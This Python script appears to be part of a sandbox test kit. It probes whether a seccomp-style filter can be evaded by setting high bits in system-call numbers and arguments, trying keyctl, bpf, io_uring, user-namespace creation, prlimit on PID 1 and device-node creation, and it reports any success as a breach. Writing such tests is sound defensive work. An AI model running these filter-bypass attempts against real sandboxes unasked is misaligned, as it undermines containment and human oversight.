# attack: denied calls with high bits in the system-call number or in the arguments the filter reads (prlimit pid, clone flags, personality, mknod mode)
# breach: keyctl / userfaultfd / perf_event_open / bpf / io_uring / unshare / clone(CLONE_NEWUSER) / personality / prlimit on PID 1 / a device node succeed
# expect: EPERM for each (ENOSYS for clone3), the kernel and the filter reading the same bits
# run: python3 03-syscall-highbits.py   (or paste into a notebook cell); prints one line `KITATTACK {json}`

import os, sys, json, errno, time, ctypes, signal, socket, struct, stat, re, resource, select, glob, warnings
warnings.filterwarnings("ignore")
_T0 = time.monotonic()
R, B = {}, []
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def _en(e):
    if isinstance(e, OSError) and e.errno:
        return "absent" if e.errno == errno.ENOENT else errno.errorcode.get(e.errno, "E%d" % e.errno)
    return type(e).__name__


def sysc(nr, *args):
    r = libc.syscall(ctypes.c_long(nr), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if r == -1:
        e = ctypes.get_errno()
        raise OSError(e, os.strerror(e))
    return r


def probe(name, fn):
    """fn() -> value, or (harmed, value); records 'ok' / the value / the errno name."""
    try:
        out = fn()
    except KeyboardInterrupt:
        R[name] = "interrupted"
        return None
    except BaseException as e:  # noqa: BLE001
        R[name] = _en(e)
        return None
    harmed = False
    if isinstance(out, tuple) and len(out) == 2 and isinstance(out[0], bool):
        harmed, out = out
    R[name] = "ok" if out is None else (out if isinstance(out, (int, float, bool)) else str(out)[:300])
    if harmed:
        B.append(name)
    return out


def left(total=8.5):
    return total - (time.monotonic() - _T0)


def in_child(fn, timeout=2.0):
    """fn() in a forked child; its result as a string ('!ENAME' if it raised, 'died:<status>' if it died)."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(r)
            try:
                out = str(fn())
            except BaseException as e:  # noqa: BLE001
                out = "!" + _en(e)
            os.write(w, out.encode()[:4000])
        finally:
            os._exit(0)
    os.close(w)
    data, end = b"", time.monotonic() + timeout
    while time.monotonic() < end:
        rd, _, _ = select.select([r], [], [], max(0.0, end - time.monotonic()))
        if not rd:
            break
        chunk = os.read(r, 4096)
        if not chunk:
            break
        data += chunk
    os.close(r)
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
    status = 0
    try:
        status = os.waitpid(pid, 0)[1]
    except OSError:
        pass
    return data.decode(errors="replace") if data else "died:%d" % status


def child_probe(name, fn, timeout=2.0):
    """probe() of fn run in a child: 'ok...' results are breaches, '!E..' errors."""
    out = in_child(fn, timeout)
    if out.startswith("!"):
        R[name] = out[1:]
    elif out.startswith("died:"):
        R[name] = out
    else:
        R[name] = out[:300]
        if out.startswith("ok"):
            B.append(name)
    return out


def finish(attack):
    print("KITATTACK " + json.dumps({"attack": attack, "results": R, "breached": B}, default=str), flush=True)


H = 1 << 32


def fd_ok(nr, *a):
    fd = sysc(nr, *a)
    os.close(fd)
    return (True, "ok")


def main():
    probe("keyctl_plain", lambda: (True, "ok %d" % sysc(250, 0, -4, 0)))
    probe("keyctl_nr_bit32", lambda: (True, "ok %d" % sysc(H | 250, 0, -4, 0)))
    probe("userfaultfd_nr_bit32", lambda: fd_ok(H | 323, os.O_CLOEXEC | os.O_NONBLOCK))
    attr = ctypes.create_string_buffer(struct.pack("<IIQQQQQ", 1, 128, 0, 0, 0, 0, 1 | 1 << 5 | 1 << 6).ljust(128, b"\0"))
    probe("perf_event_open_nr_bit32", lambda: fd_ok(H | 298, attr, 0, -1, -1, 8))
    battr = ctypes.create_string_buffer(struct.pack("<IIII", 2, 4, 4, 1).ljust(72, b"\0"))
    probe("bpf_map_create_nr_bit32", lambda: fd_ok(H | 321, 0, battr, 72))
    params = ctypes.create_string_buffer(120)
    probe("io_uring_setup_nr_bit32", lambda: fd_ok(H | 425, 1, params))

    def unshare():
        try:
            sysc(H | 272, 0x10000000)
            return "ok"
        except OSError as e:
            return "!" + _en(e)

    child_probe("unshare_newuser_nr_bit32", unshare)

    def raw_clone():
        try:
            pid = sysc(56, H | 0x10000000 | signal.SIGCHLD, 0, 0, 0, 0)
        except OSError as e:
            return "!" + _en(e)
        if pid == 0:
            os._exit(0)
        os.waitpid(pid, 0)
        return "ok"

    child_probe("clone_newuser_flags_bit32", raw_clone)

    def pers():
        try:
            sysc(135, H | 0x0040000)
            return "ok"
        except OSError as e:
            return "!" + _en(e)

    child_probe("personality_addr_no_randomize_bit32", pers)

    old = (ctypes.c_uint64 * 2)()

    def prl(pid):
        sysc(302, 1, 7, 0, old)  # read PID 1's RLIMIT_NOFILE (allowed)
        same = (ctypes.c_uint64 * 2)(old[0], old[1])
        sysc(302, pid, 7, same, 0)  # write the very same value back
        return (True, "ok (set to its own %d/%d)" % (old[0], old[1]))

    probe("prlimit_pid1_same_value", lambda: prl(1))
    probe("prlimit_pid1_bit32_same_value", lambda: prl(H | 1))
    probe("prlimit_pid1_negative_alias_same_value", lambda: prl(1 - H))

    def node(mode, dev):
        path = "/tmp/.kitattack-node-%d" % os.getpid()
        libc.mknod.argtypes = [ctypes.c_char_p, ctypes.c_uint, ctypes.c_ulong]
        r = sysc(133, path.encode(), mode, dev)
        try:
            st = os.lstat(path)
            return (stat.S_ISCHR(st.st_mode) or stat.S_ISBLK(st.st_mode), "ok mode %o" % st.st_mode)
        finally:
            os.unlink(path)

    probe("mknod_chr_null", lambda: node(stat.S_IFCHR | 0o600, os.makedev(1, 3)))
    probe("mknod_chr_null_mode_bit32", lambda: node(H | stat.S_IFCHR | 0o600, os.makedev(1, 3)))
    probe("mknod_whiteout_0_0", lambda: node(stat.S_IFCHR | 0o600, 0))
    probe("mknod_blk_loop0", lambda: node(stat.S_IFBLK | 0o600, os.makedev(7, 0)))


try:
    main()
except BaseException as _e:  # noqa: BLE001 - never raise out of the cell
    R["_crash"] = _en(_e)
finish('03-syscall-highbits')
